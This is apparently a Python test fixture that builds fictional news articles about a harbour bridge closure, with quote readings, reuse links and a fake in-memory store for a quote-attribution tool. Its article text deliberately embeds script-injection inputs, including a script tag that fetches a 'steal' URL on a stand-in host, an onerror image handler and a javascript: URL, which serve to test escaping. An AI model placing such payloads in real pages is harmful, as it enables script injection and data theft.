"""A fictional story with everything a page has to show, built by hand, and a store that holds it."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, replace

from tests.builders import find, make_actor, make_annotation, make_article, make_statement, make_story

from attribune.ids import identify
from attribune.model import (
    Actor,
    Annotation,
    Article,
    Conflict,
    Derivation,
    Evidence,
    Paragraph,
    Position,
    Reading,
    Rejected,
    Resolution,
    Reuse,
    Saying,
    Span,
    Statement,
    Story,
    StoryFindings,
    TimeExpression,
    TimelineEntry,
    Variant,
)

LIFE = "We will not gamble with a single life"
REST = ", and we will not reopen it until every cable has been replaced"

POST = "\n\n".join(
    [
        "Harbour bridge to close for a year, mayor says",
        "Mayor Ada Lindqvist told reporters on Monday that the harbour bridge would close for a year from June.",
        f"“{LIFE}{REST},” she said. “Anyone who tells you otherwise should withdraw that, apologise or step down.”",
        "Port director Tomas Varga called the plan “a reckless surprise”. He said the port would lose 400 jobs.",
        "Photo: the bridge at dusk 🌉",
        "Follow Northern Post for updates.",
    ]
)

GAZETTE = "\n\n".join(
    [
        "The harbour bridge will be shut for twelve months, it emerged on Tuesday.",
        f"“{LIFE},” Ms Lindqvist said at a rally on 5 May, according to Kestrel Wire. Her critics, she added, "
        "should “take it back, apologise or step down”.",
        "Mr Varga, who runs the port, slammed the plan as “a reckless surprise”.",
        "The port expects to lose 400 jobs, Mr Varga said.\r\n",
    ]
)

SIGNAL = "\n\n".join(
    [
        "Port chief attacks bridge plan",
        "The harbour bridge will be shut for twelve months, it emerged on Tuesday, and the port is furious.",
        f"“{LIFE}{REST},” the mayor said.",
        "A senior official said the mayor had “lost the plot <b>entirely</b>”.",
        '<script>document.title = "owned"; fetch("http://example.invalid/steal")</script>\n',
    ]
)

STRAY = f"""The bridge closes. <img src=x onerror="document.title='owned'"> "{LIFE}," said the mayor."""

LONE = """A heron was seen at the town hall on Friday. “It stayed for an hour,” said caretaker Bo Ek."""


@dataclass
class FakeStore:
    """A store in memory. ``asked`` records which articles were asked for, call by call."""

    found: Sequence[StoryFindings]
    annotated: Sequence[Annotation]
    refused: tuple[Rejected, ...] = ()

    def __post_init__(self) -> None:
        self.asked: list[tuple[str, ...]] = []

    def stories(self) -> tuple[Story, ...]:
        return tuple(found.story for found in self.found)

    def findings(self, story_id: str, /) -> StoryFindings:
        return next(found for found in self.found if found.story.id == story_id)

    def annotations(self, article_ids: tuple[str, ...], /) -> list[Annotation]:
        self.asked.append(article_ids)
        return [annotation for annotation in self.annotated if annotation.article.id in article_ids]

    def elsewhere(self) -> tuple[Reuse, ...]:
        return ()

    def rejected(self) -> tuple[Rejected, ...]:
        return self.refused


def articles() -> tuple[Article, Article, Article, Article]:
    """Return the four articles on the bridge; of the last nothing but the text is known."""
    return (
        make_article(
            POST,
            id="a1post",
            outlet="Northern Post",
            title="Harbour bridge to close for a year, mayor says",
            byline="Ines Okafor",
            published="2031-05-05T09:30:00Z",
            url="https://northernpost.example/bridge",
            language="en",
        ),
        make_article(
            GAZETTE,
            id="b2gazette",
            outlet="Harbour Gazette",
            title="Bridge shut for twelve months",
            published="2031-05-06",
            url="javascript:document.title='owned'",
        ),
        make_article(
            SIGNAL,
            id="c3signal",
            outlet="The Signal",
            title='Port chief "attacks" <bridge> plan & more',
            published="2031-05-07",
            language="en-GB",
        ),
        make_article(STRAY, id="d4stray", source="inbox/stray note.txt"),
    )


def statements(post: Article, gazette: Article, signal: Article, stray: Article) -> dict[str, Statement]:
    """Return the statements of the four articles by a short name."""
    whole = LIFE + REST
    monday = find(post.text, "on Monday")
    assert monday is not None
    return {
        "post-close": replace(
            make_statement(
                post,
                "the harbour bridge would close for a year from June",
                source="Mayor Ada Lindqvist",
                cue="told reporters",
                kind="indirect",
                actor="ada lindqvist",
            ),
            said_on=TimeExpression(monday, "2031-05-05", "day"),
            actor_evidence="named in full",
        ),
        "post-life": make_statement(post, whole, source="she", cue="said", actor="ada lindqvist"),
        "post-down": make_statement(
            post, "Anyone who tells you otherwise should withdraw that, apologise or step down", actor="ada lindqvist"
        ),
        "post-surprise": make_statement(
            post,
            "a reckless surprise",
            source="Port director Tomas Varga",
            cue="called",
            kind="mixed",
            actor="tomas varga",
        ),
        "post-jobs": make_statement(
            post, "the port would lose 400 jobs", source="He", cue="said", kind="indirect", actor="tomas varga"
        ),
        "gazette-life": replace(
            make_statement(gazette, LIFE, source="Ms Lindqvist", cue="said", actor="ada lindqvist", venue="at a rally"),
            carrier=find(gazette.text, "Kestrel Wire"),
        ),
        "gazette-down": make_statement(
            gazette,
            ["Her critics", "should “take it back, apologise or step down"],
            source="she",
            cue="added",
            kind="mixed",
            actor="ada lindqvist",
        ),
        "gazette-surprise": make_statement(
            gazette, "a reckless surprise", source="Mr Varga, who runs the port", cue="slammed", actor="tomas varga"
        ),
        "gazette-jobs": make_statement(
            gazette,
            "The port expects to lose 400 jobs",
            source="Mr Varga",
            cue="said",
            kind="indirect",
            actor="tomas varga",
        ),
        "signal-life": make_statement(signal, whole, source="the mayor", cue="said", actor="ada lindqvist"),
        "signal-plot": replace(
            make_statement(
                signal,
                "the mayor had “lost the plot <b>entirely</b>",
                source="A senior official",
                cue="said",
                kind="mixed",
            ),
            candidates=(("tomas varga", 0.42), ("ada lindqvist", 0.08)),
        ),
        "signal-nested": make_statement(
            signal, "lost the plot <b>entirely</b>", source="A senior official", cue="said"
        ),
        "stray-life": make_statement(stray, LIFE, source="the mayor", cue="said"),
    }


def make_reading(article: Article, statement: Statement, *, saying: str, **fields: object) -> Reading:
    """Return a reading of the statement's own words."""
    given: dict[str, object] = {"change": "verbatim", "similarity": 1.0, "variants": ()} | fields
    return Reading(
        saying=saying,
        statement=statement.id,
        article=article.id,
        text=" ".join(article.text[span.start : span.end] for span in statement.content),
        **given,  # type: ignore[arg-type]
    )


def variant(kind: str, article: Article, words: str | None, fullest: Article, instead: str | None) -> Variant:
    """Return one step of an alignment, its spans found by their words."""
    return Variant(kind, find(article.text, words), find(fullest.text, instead))  # type: ignore[arg-type]


def bridge() -> tuple[StoryFindings, tuple[Annotation, ...]]:
    """Return the story of the bridge and the annotations of its four articles."""
    post, gazette, signal, _ = four = articles()
    said = statements(*four)
    story = make_story(*four)
    sayings = _sayings(story, four, said)
    annotations = tuple(
        make_annotation(article, [s for s in said.values() if s.article == article.id]) for article in four
    )
    annotations = (_with_furniture(annotations[0]), *annotations[1:])
    reuses = _reuses(story, post, gazette, signal)
    return (
        StoryFindings(
            story=story,
            resolution=Resolution(actors=actors(), mentions=(), statements=tuple(said.values())),
            sayings=sayings,
            reuses=reuses,
            derivations=_derivations(story, four, reuses),
            conflicts=_conflicts(story, sayings[0], post, gazette),
            positions=(
                Position(
                    story.id,
                    "tomas varga",
                    "ada lindqvist",
                    "against",
                    (said["post-surprise"].id, said["gazette-surprise"].id),
                    0.8,
                ),
            ),
            timeline=_timeline(story, post, gazette),
        ),
        annotations,
    )


def actors() -> tuple[Actor, ...]:
    return (
        make_actor("Ada Lindqvist", description="mayor", aliases=("Ada Lindqvist", "Ms Lindqvist", "the mayor", "she")),
        make_actor("Tomas Varga", description="port director", aliases=("Tomas Varga", "Mr Varga")),
    )


def _with_furniture(annotation: Annotation) -> Annotation:
    kinds = {0: "headline", 4: "caption", 5: "furniture"}
    return replace(
        annotation,
        paragraphs=tuple(
            Paragraph(p.span, kinds.get(number, "body"))  # type: ignore[arg-type]
            for number, p in enumerate(annotation.paragraphs)
        ),
    )


def _sayings(story: Story, four: Sequence[Article], said: dict[str, Statement]) -> tuple[Saying, ...]:
    post, gazette, signal, stray = four
    life, down, surprise, jobs = (identify("saying", name) for name in ("life", "down", "surprise", "jobs"))
    cut = (
        variant("same", gazette, LIFE, post, LIFE),
        variant("omitted", gazette, None, post, REST),
    )
    swap = (
        variant("substituted", gazette, "Her critics", post, "Anyone who tells you otherwise"),
        variant("same", gazette, "should", post, "should"),
        variant("substituted", gazette, "take it back", post, "withdraw that"),
        variant("same", gazette, "apologise or step down", post, "apologise or step down"),
    )
    shared = (
        Saying(
            life,
            story.id,
            "ada lindqvist",
            said["post-life"].id,
            (
                make_reading(post, said["post-life"], saying=life),
                make_reading(
                    gazette, said["gazette-life"], saying=life, change="trimmed", similarity=0.52, variants=cut
                ),
                make_reading(signal, said["signal-life"], saying=life),
                make_reading(stray, said["stray-life"], saying=life, change="trimmed", similarity=0.52),
            ),
        ),
        Saying(
            down,
            story.id,
            "ada lindqvist",
            said["post-down"].id,
            (
                make_reading(post, said["post-down"], saying=down),
                make_reading(
                    gazette, said["gazette-down"], saying=down, change="reworded", similarity=0.47, variants=swap
                ),
            ),
        ),
        Saying(
            surprise,
            story.id,
            "tomas varga",
            said["post-surprise"].id,
            (
                make_reading(post, said["post-surprise"], saying=surprise),
                make_reading(gazette, said["gazette-surprise"], saying=surprise),
            ),
        ),
        Saying(
            jobs,
            story.id,
            "tomas varga",
            said["gazette-jobs"].id,
            (
                make_reading(gazette, said["gazette-jobs"], saying=jobs),
                make_reading(post, said["post-jobs"], saying=jobs, change="paraphrased", similarity=0.6),
            ),
        ),
    )
    by_id = {article.id: article for article in four}
    lone = tuple(
        Saying(
            identify("saying", name),
            story.id,
            said[name].actor,
            said[name].id,
            (make_reading(by_id[said[name].article], said[name], saying=identify("saying", name)),),
        )
        for name in ("post-close", "signal-plot", "signal-nested")
    )
    return shared + lone


def _span(article: Article, words: str) -> Span:
    span = find(article.text, words)
    assert span is not None
    return span


def _reuses(story: Story, post: Article, gazette: Article, signal: Article) -> tuple[Reuse, ...]:
    emerged = "The harbour bridge will be shut for twelve months, it emerged on Tuesday"
    return (
        Reuse(
            identify("reuse", 1),
            story.id,
            gazette.id,
            _span(gazette, emerged + "."),
            signal.id,
            _span(signal, emerged + ", and the port is furious."),
            0.81,
            False,
        ),
        Reuse(identify("reuse", 2), story.id, post.id, _span(post, LIFE), gazette.id, _span(gazette, LIFE), 1.0, True),
    )


def _derivations(story: Story, four: Sequence[Article], reuses: Sequence[Reuse]) -> tuple[Derivation, ...]:
    post, gazette, signal, stray = four
    emerged = Evidence("shared passage", signal.id, reuses[0].b_span, reuses[0].id)
    credit = Evidence("credit", gazette.id, _span(gazette, "according to Kestrel Wire"))
    life = Evidence("shared reading", stray.id, _span(stray, LIFE))
    return (
        Derivation(
            story.id, signal.id, gazette.id, None, 0.31, 0.84, (emerged, *([replace(emerged, note="again")] * 4))
        ),
        Derivation(story.id, gazette.id, None, "Kestrel Wire", 0.0, 0.7, (credit,)),
        Derivation(story.id, stray.id, post.id, None, 0.4, 0.35, (life,)),
    )


def _conflicts(story: Story, saying: Saying, post: Article, gazette: Article) -> tuple[Conflict, ...]:
    return (
        Conflict(
            story.id,
            "venue",
            saying.id,
            (
                Evidence("venue", post.id, _span(post, "told reporters on Monday"), "to reporters"),
                Evidence("venue", gazette.id, _span(gazette, "at a rally"), "at a rally"),
            ),
            "to reporters, or at a rally",
        ),
    )


def _timeline(story: Story, post: Article, gazette: Article) -> tuple[TimelineEntry, ...]:
    shut = _span(gazette, "The harbour bridge will be shut for twelve months, it emerged on Tuesday.")
    told = "Mayor Ada Lindqvist told reporters on Monday that the harbour bridge would close for a year from June."
    return (
        TimelineEntry(story.id, "2031-06", "month", told, post.id, _span(post, told)),
        TimelineEntry(story.id, "2031-05-06", "day", "shut", gazette.id, shut),
        TimelineEntry(story.id, "2031-05-05", "day", told, post.id, _span(post, told)),
    )


def heron() -> tuple[StoryFindings, Annotation]:
    """Return a story that one article alone tells."""
    article = make_article(
        LONE, id="e5heron", outlet="Quay Daily", title="Heron at the town hall", published="2031-05-09"
    )
    statement = make_statement(article, "It stayed for an hour", source="caretaker Bo Ek", cue="said", actor="bo ek")
    story = make_story(article)
    saying = identify("saying", "heron")
    findings = StoryFindings(
        story=story,
        resolution=Resolution((make_actor("Bo Ek", description="caretaker"),), (), (statement,)),
        sayings=(Saying(saying, story.id, "bo ek", statement.id, (make_reading(article, statement, saying=saying),)),),
        reuses=(),
        derivations=(),
        conflicts=(),
        positions=(),
        timeline=(),
    )
    return findings, make_annotation(article, [statement])


def full_store() -> FakeStore:
    """Return a store with the bridge, the heron and an input that could not be read."""
    findings, annotations = bridge()
    lone, annotation = heron()
    return FakeStore(
        [lone, findings],
        [annotation, *annotations],
        (Rejected("inbox/<broken>.pdf", "not text: it starts like a PDF"),),
    )
